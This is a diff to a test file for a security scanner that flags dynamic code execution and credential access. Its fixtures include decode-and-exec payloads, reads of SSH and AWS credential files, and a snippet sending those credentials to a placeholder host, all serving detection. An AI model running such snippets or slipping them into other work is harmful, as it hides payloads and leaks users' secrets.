@@ -14,7 +14,7 @@ from heimnetz_git.scan.engine import Report, scan
 
 EVERYTHING = Permissions(
     network=NetworkPermissions(
-        connect=("*:*",), listen=("8000",), multicast=("239.255.255.250:1900",), raw=True
+        connect=("*:*",), listen=("80", "8000"), multicast=("239.255.255.250:1900",), raw=True
     ),
     files=FilePermissions(read=("/",), write=("/",)),
     run=("/usr/bin/true", "/bin/sh", "/usr/sbin/ip", "/usr/bin/ping"),
@@ -32,11 +32,14 @@ def found(code: str, permissions: Permissions | None = EVERYTHING) -> set[tuple[
     return {(it.rule, str(it.severity)) for it in scanned(code, permissions).findings}
 
 
+RUNS = ("dynamic-code", "decode-execute", "download-execute")
 DYNAMIC = [
     ("eval(text)", "medium"),
     ("import builtins\nbuiltins.exec(text)", "medium"),
     ("e = exec\ne(text)", "medium"),
     ("exec('a = 1')", "low"),
+    ("exec('def f(:')", "medium"),
+    ("exec('x = 1 #' + 'a' * 2_000_000)", "medium"),
     ("import base64\nexec(base64.b64decode(blob))", "high"),
     ("from base64 import b64decode as d\ncode = d(blob)\nexec(compile(code, 'a', 'exec'))", "high"),
     ("import marshal, zlib\nexec(marshal.loads(zlib.decompress(blob)))", "high"),
@@ -52,7 +55,9 @@ DYNAMIC = [
 @pytest.mark.parametrize(("code", "severity"), DYNAMIC)
 def test_code_made_at_run_time_is_found(code: str, severity: str) -> None:
     """However the function is named, and worse when what it runs was hidden."""
-    assert ("dynamic-code", severity) in found(code)
+    said = {found_as for rule, found_as in found(code) if rule in RUNS}
+    assert severity in said
+    assert severity == "high" or "high" not in said
 
 
 SHELLS = [
@@ -127,7 +132,7 @@ def test_permissions_that_nothing_uses_are_named() -> None:
 
 
 CREDENTIALS = [
-    ("p = '~/.ssh/id_ed25519'", "medium"),
+    ("p = '~/.ssh/id_ed25519'", "low"),
     ("import os\nopen(os.path.expanduser('~/.aws/credentials'))", "medium"),
     (
         """import os, urllib.request
@@ -141,8 +146,9 @@ urllib.request.urlopen('http://example.invalid', found)
 
 @pytest.mark.parametrize(("code", "severity"), CREDENTIALS)
 def test_paths_of_credentials_are_found(code: str, severity: str) -> None:
-    """Worse when the module also talks to the network."""
-    assert ("credential-files", severity) in found(code)
+    """Worse when they flow into the network."""
+    said = {how for rule, how in found(code) if rule in ("credential-files", "exfiltration")}
+    assert severity in said
 
 
 BENIGN = {
